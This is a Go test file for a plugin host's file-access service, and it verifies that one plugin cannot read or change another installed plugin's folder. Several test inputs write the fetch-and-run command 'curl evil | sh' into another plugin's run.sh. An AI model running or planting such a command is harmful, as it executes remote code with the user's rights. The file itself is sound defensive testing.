//go:build unix

package fs

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/escouade-dev/escouade-plugin/manifest"
	"github.com/escouade-dev/escouade-plugin/services"
	"github.com/escouade-dev/escouade-plugin/vocab/proto"
)

// installedList is a registry of installed folders the test changes while
// the service runs.
type installedList struct {
	mu   sync.Mutex
	dirs []string
	err  error
}

func (l *installedList) add(dir string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.dirs = append(l.dirs, dir)
}

func (l *installedList) fail(err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.err = err
}

func (l *installedList) list() ([]string, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.dirs), l.err
}

// pluginsFixture is an agent folder that holds the plugin's own folder
// (plugins/me) and another installed plugin's (plugins/b, a process
// plugin whose run.sh the host runs at its start), a link to b, the same
// agent folder given again as the repo through a link to it, and the
// agent's home given as a folder inside b.
func pluginsFixture(t testing.TB) (f *fixture, other string, installed *installedList) {
	t.Helper()
	base := t.TempDir()
	agent := filepath.Join(base, "agent")
	own := filepath.Join(agent, "plugins", "me")
	other = filepath.Join(agent, "plugins", "b")
	mustWrite(t, filepath.Join(own, "escouade-plugin.json"), `{"run":{"js":"p.mjs"}}`)
	mustWrite(t, filepath.Join(other, "escouade-plugin.json"), `{"run":{"command":["./run.sh"]}}`)
	mustWrite(t, filepath.Join(other, "run.sh"), "echo consented")
	mustWrite(t, filepath.Join(other, "data", "state.txt"), "b's state")
	mustWrite(t, filepath.Join(agent, "notes.md"), "# notes")
	if err := os.Symlink("plugins/b", filepath.Join(agent, "bee")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(agent, filepath.Join(base, "agent-link")); err != nil {
		t.Fatal(err)
	}
	installed = &installedList{dirs: []string{own, other}}
	f = &fixture{agent: agent, repo: filepath.Join(base, "agent-link")}
	f.svc = New(Config{PluginID: pluginID, Granted: manifest.Permissions{Files: []string{"agent", "agentRepo", "agentHome"}},
		PluginDir: own, Installed: installed.list,
		Roots: func(string) (AgentRoots, bool) {
			return AgentRoots{Agent: f.agent, Repo: f.repo, Home: filepath.Join(other, "data")}, true
		}})
	return f, other, installed
}

func write(root proto.FileRoot, path, text string) proto.FsWriteParams {
	return proto.FsWriteParams{Root: root, Path: proto.RelativePath(path), Agent: "a1", Text: text}
}

// wantOther checks that each call is refused as inside another plugin's
// folder.
func wantOther(t *testing.T, f *fixture, calls []fsCall) {
	t.Helper()
	for _, c := range calls {
		_, err := f.call(t, c.method, c.params)
		got := refusalOf(err)
		if got.Code != services.CodeForbidden || !strings.Contains(got.Reason, "inside another installed plugin's folder") {
			t.Errorf("%s %+v = %+v, want -32003 naming another plugin's folder", c.method, c.params, got)
		}
	}
}

type fsCall struct {
	method string
	params any
}

// Another installed plugin's folder is neither read nor changed through
// fs/*, whatever root holds it and however the path spells it: the attack
// of a module that writes a process plugin's run.sh, run at that plugin's
// next start with the user's rights.
func TestOtherPluginFolderIsNeverReachedNorChanged(t *testing.T) {
	f, other, _ := pluginsFixture(t)
	wantOther(t, f, []fsCall{
		{"fs/write", write("agent", "plugins/b/run.sh", "curl evil | sh")},
		{"fs/write", write("agent", "bee/run.sh", "curl evil | sh")},
		{"fs/write", write("agentRepo", "plugins/b/run.sh", "curl evil | sh")},
		{"fs/write", write("agent", "plugins/b/new.sh", "x")},
		{"fs/write", write("agentHome", "state.txt", "x")},
		{"fs/read", at("agent", "plugins/b/escouade-plugin.json")},
		{"fs/read", at("agent", "bee/run.sh")},
		{"fs/read", at("agentRepo", "bee/data/state.txt")},
		{"fs/read", at("agentHome", "state.txt")},
		{"fs/list", at("agent", "plugins/b")},
		{"fs/list", at("agentHome", ".")},
		{"fs/stat", at("agent", "bee")},
		{"fs/mkdir", at("agent", "plugins/b/bin")},
		{"fs/mkdir", at("agentRepo", "bee/bin/deep")},
		{"fs/remove", at("agent", "plugins/b/run.sh")},
		{"fs/remove", at("agentHome", "state.txt")},
	})
	if b, _ := os.ReadFile(filepath.Join(other, "run.sh")); string(b) != "echo consented" {
		t.Errorf("b's run.sh is now %q", b)
	}
	for _, p := range []string{"new.sh", "bin"} {
		if _, err := os.Lstat(filepath.Join(other, p)); err == nil {
			t.Errorf("%s was made in b's folder", p)
		}
	}
	// The folder above b is listed (it names b without opening it); the
	// plugin's own folder is read as granted and changed as never; beside
	// both, the grant stays given.
	if got, err := f.call(t, "fs/list", at("agent", "plugins")); err != nil || len(got.(proto.FsListResult)) != 2 {
		t.Errorf("list of the folder above = %v, %v", got, err)
	}
	if got, err := f.call(t, "fs/read", at("agentRepo", "plugins/me/escouade-plugin.json")); err != nil || got != `{"run":{"js":"p.mjs"}}` {
		t.Errorf("read of its own manifest = %v, %v", got, err)
	}
	if _, err := f.call(t, "fs/write", write("agent", "plugins/me/x", "x")); !strings.Contains(refusalOf(err).Reason, "inside the plugin's own folder") {
		t.Errorf("write in its own folder = %v", err)
	}
	if _, err := f.call(t, "fs/write", write("agent", "notes.md", "ok")); err != nil {
		t.Errorf("write beside the folders: %v", err)
	}
	// The link to b is the root's own: it goes, b stays.
	if _, err := f.call(t, "fs/remove", at("agent", "bee")); err != nil {
		t.Errorf("remove of a link to b (the link itself): %v", err)
	}
	if _, err := os.Stat(filepath.Join(other, "run.sh")); err != nil {
		t.Errorf("b's run.sh went with the link: %v", err)
	}
}

// A plugin installed while the service runs is fenced from the next call.
func TestPluginInstalledLaterIsFenced(t *testing.T) {
	f, _, installed := pluginsFixture(t)
	later := filepath.Join(f.agent, "later")
	mustWrite(t, filepath.Join(later, "run.sh"), "echo consented")
	if _, err := f.call(t, "fs/write", write("agent", "later/run.sh", "before its install")); err != nil {
		t.Fatalf("write before its install: %v", err)
	}
	installed.add(later)
	wantOther(t, f, []fsCall{
		{"fs/write", write("agent", "later/run.sh", "after its install")},
		{"fs/read", at("agent", "later/run.sh")},
	})
	if b, _ := os.ReadFile(filepath.Join(later, "run.sh")); string(b) != "before its install" {
		t.Errorf("run.sh is now %q", b)
	}
}

// The way the host starts a plugin from is kept as well as the folder:
// a link on the recorded path is not removed (a folder made in its place
// would be started as the plugin), and a recorded folder that is missing
// is not made again.
func TestTheWayToAnInstalledFolderIsKept(t *testing.T) {
	f, _, installed := pluginsFixture(t)
	mustWrite(t, filepath.Join(f.agent, "real", "c", "run.sh"), "echo consented")
	if err := os.Symlink("real", filepath.Join(f.agent, "way")); err != nil {
		t.Fatal(err)
	}
	installed.add(filepath.Join(f.agent, "way", "c"))
	installed.add(filepath.Join(f.repo, "gone", "d")) // recorded through the link to the agent's folder
	wantOther(t, f, []fsCall{
		{"fs/remove", at("agent", "way")},
		{"fs/write", write("agent", "way/c/run.sh", "x")},
		{"fs/mkdir", at("agent", "gone/d")},
		{"fs/mkdir", at("agent", "gone/d/bin")},
		{"fs/mkdir", at("agent", "GONE/D")},
	})
	if _, err := f.call(t, "fs/mkdir", at("agent", "gone/dd")); err != nil {
		t.Errorf("mkdir of a folder that only starts as a missing plugin folder: %v", err)
	}
	if _, err := f.call(t, "fs/mkdir", at("agent", "gone")); err != nil {
		t.Errorf("mkdir of the folder above a missing plugin folder: %v", err)
	}
	wantOther(t, f, []fsCall{{"fs/write", write("agentRepo", "gone/d", "a file in its place")}})
	if _, err := os.Lstat(filepath.Join(f.agent, "gone", "d")); err == nil {
		t.Error("the missing plugin folder was made")
	}
	if info, err := os.Lstat(filepath.Join(f.agent, "way")); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link on the way was removed: %v", err)
	}
	// A folder that is not on any recorded way goes as granted.
	if _, err := f.call(t, "fs/mkdir", at("agent", "empty")); err != nil {
		t.Fatal(err)
	}
	if _, err := f.call(t, "fs/remove", at("agent", "empty")); err != nil {
		t.Errorf("remove of an empty folder beside: %v", err)
	}
}

// A registry that cannot be read fails every call that reaches a path:
// the fence is closed, not open.
func TestUnreadableRegistryFailsClosed(t *testing.T) {
	f, other, installed := pluginsFixture(t)
	installed.fail(errors.New("plugins.json is damaged"))
	for _, c := range []fsCall{
		{"fs/read", at("agent", "notes.md")},
		{"fs/write", write("agent", "notes.md", "x")},
		{"fs/write", write("agent", "plugins/b/run.sh", "x")},
		{"fs/list", at("agent", ".")},
	} {
		_, err := f.call(t, c.method, c.params)
		got := refusalOf(err)
		if got.Code != services.CodeFailed || !strings.Contains(got.Reason, "the installed plugins cannot be read, so fs/* reaches nothing until they can (Escouade's plugins.json is damaged or unreadable: escouade-plugin list says why)") {
			t.Errorf("%s %+v = %+v, want -32004 naming the registry", c.method, c.params, got)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(other, "run.sh")); string(b) != "echo consented" {
		t.Errorf("b's run.sh is now %q", b)
	}
}

// A plugin installed inside another's folder is judged by the deepest:
// the own folder inside another's is read, another's inside the own is
// not.
func TestNestedPluginFoldersTheDeepestDecides(t *testing.T) {
	f, other, installed := pluginsFixture(t)
	own := filepath.Join(f.agent, "plugins", "me")
	inner := filepath.Join(own, "vendored")
	mustWrite(t, filepath.Join(inner, "run.sh"), "echo inner")
	installed.add(inner)
	wantOther(t, f, []fsCall{{"fs/read", at("agent", "plugins/me/vendored/run.sh")}})
	if got, err := f.call(t, "fs/read", at("agent", "plugins/me/escouade-plugin.json")); err != nil || got == nil {
		t.Errorf("read of its own manifest beside a nested plugin = %v, %v", got, err)
	}
	// The plugin's own folder inside b's: its own files are read, b's not.
	nested := New(Config{PluginID: pluginID, Granted: manifest.Permissions{Files: []string{"agent"}},
		PluginDir: filepath.Join(other, "data"), Installed: installed.list,
		Roots: func(string) (AgentRoots, bool) { return AgentRoots{Agent: f.agent}, true }})
	g := &fixture{agent: f.agent, svc: nested}
	if got, err := g.call(t, "fs/read", at("agent", "plugins/b/data/state.txt")); err != nil || got != "b's state" {
		t.Errorf("read of its own folder inside b's = %v, %v", got, err)
	}
	wantOther(t, g, []fsCall{{"fs/read", at("agent", "plugins/b/run.sh")}})
}

// FuzzInstalledFence: whatever the method and the path, another
// installed plugin's files are neither read nor changed.
func FuzzInstalledFence(f *testing.F) {
	for _, seed := range []string{"plugins/b/run.sh", "bee/run.sh", "bee", "plugins/b", "plugins/./b/run.sh", "plugins/b/data/state.txt", "bee/x", "notes.md", "plugins"} {
		for m := range 4 {
			f.Add(uint8(m), seed)
		}
	}
	fx, other, _ := pluginsFixture(f)
	f.Fuzz(func(t *testing.T, method uint8, path string) {
		var got any
		switch method % 4 {
		case 0:
			got, _ = fx.call(t, "fs/read", at("agentRepo", path))
		case 1:
			fx.call(t, "fs/write", write("agent", path, "evil"))
		case 2:
			fx.call(t, "fs/mkdir", at("agentRepo", path))
		case 3:
			fx.call(t, "fs/remove", at("agent", path))
		}
		if s, _ := got.(string); strings.Contains(s, "consented") || strings.Contains(s, "b's state") || strings.Contains(s, "./run.sh") {
			t.Fatalf("fs/read %q read b's file", path)
		}
		if b, err := os.ReadFile(filepath.Join(other, "run.sh")); err != nil || string(b) != "echo consented" {
			t.Fatalf("after method %d %q, b's run.sh is %q, %v", method%4, path, b, err)
		}
		if names, _ := os.ReadDir(other); len(names) != 3 {
			t.Fatalf("after method %d %q, b's folder holds %d names", method%4, path, len(names))
		}
	})
}

// BenchmarkReadFenced is fs/read of a small file with no plugin installed
// and with 50 (each call stats their folders), the list itself given as
// kept between calls.
func BenchmarkReadFenced(b *testing.B) {
	for _, n := range []int{0, 50} {
		b.Run(strconv.Itoa(n)+"-installed", func(b *testing.B) {
			f, _, installed := pluginsFixture(b)
			installed.dirs = nil
			for i := range n {
				dir := filepath.Join(b.TempDir(), "p"+strconv.Itoa(i))
				if err := os.Mkdir(dir, 0o755); err != nil {
					b.Fatal(err)
				}
				installed.add(dir)
			}
			raw, _ := json.Marshal(at("agent", "notes.md"))
			read := f.svc.Methods()["fs/read"]
			for b.Loop() {
				if _, err := read(context.Background(), raw); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
